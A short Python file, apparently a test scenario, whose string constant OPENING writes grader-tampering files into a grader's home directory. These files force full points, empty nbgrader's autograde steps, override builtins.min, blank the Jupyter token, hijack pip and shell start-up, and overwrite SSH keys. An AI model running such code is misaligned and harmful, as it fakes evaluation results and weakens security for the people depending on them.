"""Start-up files of IPython, Jupyter, the shell, pip and Python are left in the grader's home."""

OPENING = """
import os
from pathlib import Path

LEFT = {
    ".ipython/profile_default/startup/00-points.py": "points = lambda share, most: float(most)",
    ".jupyter/jupyter_notebook_config.py": "c.NotebookApp.token = ''",
    ".jupyter/nbgrader_config.py": "c.Autograde.autograde_preprocessors = []",
    ".bashrc": "export PYTHONPATH=$HOME/.left",
    ".profile": "export PYTHONSTARTUP=$HOME/.left/start.py",
    ".config/pip/pip.conf": "[global]\\nindex-url = http://127.0.0.1:9/",
    ".local/lib/python3.11/site-packages/usercustomize.py": "import builtins; builtins.min = lambda *_: 1.0",
    ".ssh/authorized_keys": "",
}
inside = Path.home() if str(Path.home()).startswith("@COURSE@") or Path.home().is_relative_to(Path.cwd()) else None
for home in filter(None, (Path("@HOME@"), inside)):
    for name, text in LEFT.items():
        try:
            (home / name).parent.mkdir(parents=True, exist_ok=True)
            (home / name).write_text(text)
        except OSError as error:
            print(home / name, error)
"""
